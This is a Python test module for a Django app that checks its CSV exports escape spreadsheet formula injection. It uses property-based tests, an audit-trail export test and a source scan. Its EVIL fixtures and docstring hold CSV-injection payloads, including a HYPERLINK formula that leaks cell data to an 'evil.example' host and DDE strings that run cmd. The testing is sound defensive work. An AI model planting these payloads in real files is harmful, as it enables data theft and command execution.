"""A cell that a spreadsheet would compute leaves us as text, in every file we write.

The peers' hole: a client named `=HYPERLINK("https://evil/?"&A1)` sent the whole export away when the owner opened it.
"""

import ast
import csv
import io

import pytest
from django.utils import timezone
from hypothesis import example, given, settings
from hypothesis import strategies as st

from sameday.audit import csv_cells, journal
from sameday.audit.csv_cells import harmless
from sameday.clients.sheets import cells as sheets
from tests.test_boundaries import sources

EVIL = ('=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|'x'!A0",
        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "\u00a0=1+1", "%0A=1+1", ';=1+1', '",=1+1')  # fmt: skip
WOULD_COMPUTE = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def computed(cell: str) -> bool:
    """Return whether a spreadsheet takes the cell for a formula; some of them trim it first."""
    return cell.strip(" \t\r\n\u00a0").startswith(WOULD_COMPUTE)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=40), st.sampled_from(["", *WOULD_COMPUTE, "\t", "\r", "\n", " ", "\u00a0", "\x00"]))
@example("1+1", "=")
def test_no_text_stays_a_formula(text, begins):
    cell = harmless(begins + text)
    assert not computed(cell)
    assert text.replace("\x00", "") in cell, "nothing but the sign is changed"


@pytest.mark.parametrize("number", [-5, 3.25, -0.5, 0])
def test_numbers_of_ours_stay_numbers(number):
    assert harmless(number) == str(number)


def test_the_control_such_a_cell_is_seen():
    assert computed(EVIL[0]) and computed(EVIL[4]) and not computed("Ann Keller") and not computed("'=1")


@pytest.mark.django_db
def test_the_export_of_the_audit_trail_computes_nothing(cast, sign_in):
    for evil in EVIL:
        journal.note(evil[:60], by=f"staff:{cast.cora.pk}", at=timezone.now(), subject=evil[:80], value=evil)
    type(cast.cora).objects.filter(pk=cast.cora.pk).update(name=EVIL[0])
    answer = sign_in(cast.olga).post("/desk/audit/export", {"format": "csv"})
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells), "the control: the words are there"
    assert [cell for cell in cells if computed(cell)] == []


def test_whoever_writes_csv_asks_for_harmless_cells():
    """A new export that forgets it fails here."""
    writers = {
        path: ast.unparse(tree)
        for path, tree in sources("sameday").items()
        if any(isinstance(n, ast.Attribute) and n.attr in {"writer", "DictWriter"} and ast.unparse(n.value) == "csv"
               for n in ast.walk(tree))
    }  # fmt: skip
    assert "sameday/reports/trail_export.py" in writers, "the control: ours is seen"
    assert [path for path, code in writers.items() if "csv_cells" not in code and "cells.disarmed(" not in code] == []
    assert sheets.BEGINS is csv_cells.BEGINS, "the clients' cells, which can be read back, know the same beginnings"
